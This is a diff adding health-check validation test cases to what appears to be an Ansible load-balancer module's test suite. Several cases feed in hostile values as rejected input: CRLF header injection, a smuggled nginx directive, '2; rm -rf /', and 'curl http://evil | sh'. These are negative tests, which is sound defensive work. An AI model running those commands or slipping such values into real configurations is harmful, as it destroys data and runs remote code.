@@ -620,7 +620,67 @@ ACCESS = [
     Case("rate-limit-text", {"rate_limit": "10"}, 'rate_limit: "10" is a str, expected a mapping', ANSIBLE_DICT_ERROR),
 ]
 
-CASES = injection_cases() + HAND_WRITTEN + PROTOCOL_TLS_REDIRECT + APPLICATION_OPTIONS + ACCESS
+# health_check: the path goes into the probe's request line, the host into its Host header, the
+# statuses are compared with the answer's; none of them reaches nginx, a shell or a metric label.
+HEALTH_INT_ERROR = "argument '%s' is of type str found in 'health_check'"
+HEALTH = [
+    Case("health-path-crlf", {"health_check": {"path": "/h\r\nX-Injected: 1"}},
+         'health_check.path: "/h\\r\\nX-Injected: 1" is not a path'),
+    Case("health-path-space", {"health_check": {"path": "/a b"}}, 'health_check.path: "/a b" is not a path'),
+    Case("health-path-relative", {"health_check": {"path": "health"}}, 'health_check.path: "health" is not a path'),
+    Case("health-path-url", {"health_check": {"path": "http://evil/"}}, 'health_check.path: "http://evil/" is not a path'),
+    Case("health-path-fragment", {"health_check": {"path": "/a#b"}}, 'health_check.path: "/a#b" is not a path'),
+    Case("health-path-bad-escape", {"health_check": {"path": "/%zz"}}, 'health_check.path: "/%zz" is not a path'),
+    Case("health-path-unicode", {"health_check": {"path": "/\u00e9t\u00e9"}},
+         'health_check.path: "/\\u00e9t\\u00e9" is not a path'),
+    Case("health-path-too-long", {"health_check": {"path": "/" + "a" * 1024}}, "health_check.path: \"/aaa"),
+    Case("health-host-crlf", {"health_check": {"host": "a.com\r\nX-Injected: 1"}},
+         'health_check.host: "a.com\\r\\nX-Injected: 1" is not a host name'),
+    Case("health-host-directive", {"health_check": {"host": "a.com; return 200"}},
+         'health_check.host: "a.com; return 200" is not a host name'),
+    Case("health-host-wildcard", {"health_check": {"host": "*.a.com"}}, 'health_check.host: "*.a.com" is not a host name'),
+    Case("health-host-userinfo", {"health_check": {"host": "user@a.com"}},
+         'health_check.host: "user@a.com" is not a host name'),
+    Case("health-host-path", {"health_check": {"host": "a.com/x"}}, 'health_check.host: "a.com/x" is not a host name'),
+    Case("health-host-port-0", {"health_check": {"host": "a.com:0"}}, 'health_check.host: "a.com:0" has an invalid port'),
+    Case("health-host-label-quote", {"health_check": {"host": 'a"}'}}, 'health_check.host: "a\\"}" is not a host name'),
+    Case("health-host-variable", {"health_check": {"host": "$host"}}, 'health_check.host: "$host" is not a host name'),
+    Case("health-status-text", {"health_check": {"status": "2xx"}}, 'health_check.status: "2xx" is not a status',
+         'health_check.status[0]: "2xx" is not a status'),
+    Case("health-status-reason", {"health_check": {"status": "200 OK"}}, 'health_check.status: "200 OK" is not a status',
+         'health_check.status[0]: "200 OK" is not a status'),
+    Case("health-status-newline", {"health_check": {"status": ["200", "301\n302"]}},
+         'health_check.status[1]: "301\\n302" is not a status'),
+    Case("health-status-reversed", {"health_check": {"status": "399-200"}},
+         'health_check.status: "399-200" is not a status range within 100-599, lowest first',
+         'health_check.status[0]: "399-200" is not a status range within 100-599, lowest first'),
+    Case("health-status-600", {"health_check": {"status": [600]}},
+         'health_check.status[0]: 600 is not a status range within 100-599', 'health_check.status[0]: "600" is not a status range'),
+    Case("health-status-twice", {"health_check": {"status": ["200", "200"]}}, 'health_check.status[1]: "200" is listed twice'),
+    Case("health-status-empty", {"health_check": {"status": []}}, "health_check.status: [] is not a status"),
+    Case("health-fails-0", {"health_check": {"fails": 0}}, "health_check.fails: 0 is out of range (1-100)"),
+    Case("health-passes-text", {"health_check": {"passes": "2; rm -rf /"}}, 'health_check.passes: "2; rm -rf /" is not an integer',
+         HEALTH_INT_ERROR % "passes"),
+    Case("health-interval-days", {"health_check": {"interval": "2d"}}, 'health_check.interval: "2d" is not a time'),
+    Case("health-interval-too-short", {"health_check": {"interval": "10ms"}},
+         'health_check.interval: "10ms" is out of range (100ms-3600s)'),
+    Case("health-timeout-too-long", {"health_check": {"timeout": "2m"}}, 'health_check.timeout: "2m" is out of range (100ms-60s)'),
+    Case("health-type-udp", {"health_check": {"type": "udp"}}, 'health_check.type: "udp" is not one of http, tcp',
+         "value of type must be one of: http, tcp, got: udp found in health_check"),
+    Case("health-enabled-maybe", {"health_check": {"enabled": "maybe"}}, 'health_check.enabled: "maybe" is not a boolean',
+         "argument 'enabled' is of type str found in 'health_check'"),
+    Case("health-type-http-on-tcp", dict(TCP, health_check={"type": "http"}),
+         'health_check.type: "http" is not possible for a tcp rule'),
+    Case("health-tcp-path", dict(TCP, health_check={"path": "/x"}), "health_check.path: does not apply to type tcp"),
+    Case("health-tcp-status", {"health_check": {"type": "tcp", "status": ["200"]}},
+         "health_check.status: does not apply to type tcp"),
+    Case("health-udp", dict(UDP, health_check={"enabled": True}), "health_check: does not apply to protocol udp"),
+    Case("health-unknown-option", {"health_check": {"command": "curl http://evil | sh"}},
+         'health_check: unsupported field "command"'),
+    Case("health-text", {"health_check": "off"}, 'health_check: "off" is a str, expected a mapping', ANSIBLE_DICT_ERROR),
+]
+
+CASES = injection_cases() + HAND_WRITTEN + PROTOCOL_TLS_REDIRECT + APPLICATION_OPTIONS + ACCESS + HEALTH
 # Not passed through the module: a structure Ansible's argument parsing cannot carry (it would
 # fail in the JSON encoder of the controller long before the module runs).
 MODEL_ONLY = {"type-deeply-nested", "server-port-beyond-int-digits"}
